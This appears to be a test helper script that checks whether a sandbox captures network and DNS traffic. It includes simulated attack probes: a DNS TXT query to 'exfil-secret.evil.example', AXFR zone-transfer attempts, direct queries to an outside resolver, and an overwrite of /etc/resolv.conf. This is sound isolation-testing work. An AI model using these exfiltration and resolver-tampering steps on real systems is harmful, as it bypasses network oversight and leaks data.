"""Run by tests/test_e2e_capture.py."""
import errno
import ipaddress
import json
import socket
import subprocess
import sys
world_dns = sys.argv[1]

def say(id, ok, error=None, **more):
    print(json.dumps({"id": id, "ok": ok, "error": error, **more}), flush=True)

def run(id, argv, **more):
    out = subprocess.run(argv, capture_output=True, text=True, timeout=60)
    say(id, out.returncode == 0, out.stderr.strip()[-200:] or None, out=out.stdout.strip(), **more)
    return out.stdout.strip()

def get(id, host, port=80):
    try:
        with socket.create_connection((host, port), timeout=20) as s:
            s.sendall(b"GET /whoami HTTP/1.0\r\nHost: api.github.com\r\n\r\n")
            data = b""
            while chunk := s.recv(65536):
                data += chunk
        say(id, True, seen=json.loads(data.split(b"\r\n\r\n", 1)[1]))
    except (OSError, ValueError, IndexError) as e:
        say(id, False, errno.errorcode.get(getattr(e, "errno", None) or 0, str(e)))

run("getent", ["getent", "hosts", "api.github.com"])
run("getent-evil", ["getent", "hosts", "evil.example"])
made_up = run("dig-a", ["dig", "+short", "@127.0.0.1", "api.github.com", "A"])
run("dig-tcp", ["dig", "+short", "+tcp", "@127.0.0.1", "api.github.com", "A"])
run("dig-aaaa", ["dig", "@127.0.0.1", "api.github.com", "AAAA"])
run("dig-txt", ["dig", "@127.0.0.1", "exfil-secret.evil.example", "TXT"])
run("dig-any", ["dig", "@127.0.0.1", "evil.example", "ANY"])
run("dig-axfr", ["dig", "@127.0.0.1", "evil.example", "AXFR"])
run("dig-world", ["dig", "+short", "+tries=1", "+time=5", f"@{world_dns}", "evil.example", "A"])
run("dig-world-tcp", ["dig", "+short", "+tcp", "+tries=1", "+time=5", f"@{world_dns}", "evil.example"])
get("python", "api.github.com")
run("curl", ["curl", "-sS", "--max-time", "20", "http://api.github.com/whoami"])
get("evil", "evil.example")
other_run = str(ipaddress.IPv4Address(int(ipaddress.IPv4Address(made_up)) ^ 0x10000))
get("other-run", other_run)
try:
    with open("/etc/resolv.conf", "w") as f:
        f.write(f"nameserver {world_dns}\n")
    say("resolv-write", True)
except OSError as e:
    say("resolv-write", False, errno.errorcode.get(e.errno))
say("resolv", True, out=open("/etc/resolv.conf").read())
